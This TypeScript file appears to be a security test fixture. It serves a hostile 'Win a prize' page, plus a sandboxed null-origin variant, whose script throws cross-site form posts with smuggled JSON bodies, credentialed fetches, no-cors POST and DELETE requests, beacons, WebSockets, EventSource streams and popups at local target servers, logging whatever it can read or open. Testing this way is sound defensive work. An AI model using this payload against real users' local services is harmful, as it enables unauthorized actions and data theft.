/** What a page tries that wants something of the servers on the machine of whoever opened it. Runs in the browser. */
import { createServer } from "node:http";
import { listenOnLoopback } from "../../../local/loopback-port";

/** What a page found that it should not have. */
export interface Spoils {
  /** Answers that it could read, by their URLs. */
  readonly read: readonly string[];
  /** Web sockets that opened. */
  readonly opened: readonly string[];
  /** Pages that it opened, and could look into. */
  readonly seen: readonly string[];
}

/** Servers whose pages try everything on every target. */
export class HostilePages {
  private constructor(
    private readonly server: ReturnType<typeof createServer>,
    readonly port: number,
  ) {}

  static async start(targets: readonly string[]): Promise<HostilePages> {
    const server = createServer((request, response) => {
      response.writeHead(200, { "content-type": "text/html" });
      response.end(request.url === "/sandbox" ? SANDBOX : pageWith(targets));
    });
    return new HostilePages(server, await listenOnLoopback(server));
  }

  async stop(): Promise<void> {
    const closed = new Promise((resolve) => this.server.close(resolve));
    this.server.closeAllConnections();
    await closed;
  }
}

/** Its origin is "null". */
const SANDBOX = '<!doctype html><iframe sandbox="allow-scripts allow-forms allow-popups" src="/"></iframe>';

export const pageWith = (targets: readonly string[]): string =>
  `<!doctype html><title>Win a prize</title><body><script>(${attack})(${JSON.stringify(targets)})</script>`;

/** Stands in the page as its source: it may use nothing from outside of itself. */
const attack = `async (targets) => {
  const spoils = { read: [], opened: [], seen: [] };
  const soon = (start) => new Promise((resolve) => { start(resolve); setTimeout(resolve, 2000); });
  const form = (url, enctype, target) => {
    const it = Object.assign(document.createElement("form"), { action: url, method: "POST", enctype, target });
    it.append(Object.assign(document.createElement("input"), { name: '{"on":true,"text":"', value: 'open"}' }));
    document.body.append(it);
    it.submit();
  };
  const frame = (url, enctype) => soon((done) => {
    const it = Object.assign(document.createElement("iframe"), { name: Math.random().toString(36) });
    document.body.append(it);
    it.onload = done;
    if (enctype) form(url, enctype, it.name); else it.src = url;
  });
  const element = (tag, url) => soon((done) => {
    const it = Object.assign(document.createElement(tag), { src: url, onload: done, onerror: done });
    document.body.append(it);
  });
  const ask = (url, options) => fetch(url, { credentials: "include", ...options }).then(
    async (answer) => { if (answer.type !== "opaque" && answer.ok) spoils.read.push(options.method + " " + url); },
    () => undefined,
  );
  const stream = (url) => soon((done) => {
    const it = new EventSource(url, { withCredentials: true });
    it.onopen = () => { spoils.opened.push(url); it.close(); done(); };
    it.onerror = () => { it.close(); done(); };
  });
  const socket = (url) => soon((done) => {
    const it = new WebSocket(url.replace(/^http/, "ws"));
    it.onopen = () => { spoils.opened.push(url); it.close(); done(); };
    it.onerror = done;
  });
  const popup = async (url, posts) => {
    const name = Math.random().toString(36);
    const it = window.open("about:blank", name);
    if (!it) return;
    if (posts) form(url, "text/plain", name); else it.location = url;
    await new Promise((resolve) => setTimeout(resolve, 500));
    try { if (it.location.href !== "about:blank") spoils.seen.push(url + it.document.body.innerText); } catch {}
    it.close();
  };
  const attack = (url) => Promise.all([
    ...["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"].map((it) => frame(url, it)),
    frame(url),
    element("img", url),
    element("script", url),
    ask(url, { method: "GET" }),
    ask(url, { method: "GET", mode: "no-cors" }),
    ask(url, { method: "POST", mode: "no-cors", body: '{"on":true}' }),
    ask(url, { method: "POST", headers: { "content-type": "application/json" }, body: '{"on":true}' }),
    ask(url, { method: "DELETE" }),
    Promise.resolve(navigator.sendBeacon(url, "{}")),
    stream(url),
    socket(url),
  ]);
  for (let at = 0; at < targets.length; at += 4) {
    await Promise.all(targets.slice(at, at + 4).map(attack));
    document.querySelectorAll("iframe, form, img").forEach((it) => it.remove());
  }
  const first = targets.filter((url, index) => targets.findIndex((it) => new URL(it).origin === new URL(url).origin) === index);
  for (const url of first) {
    await popup(url, false);
    await popup(url, true);
  }
  await window.report(spoils);
}`;
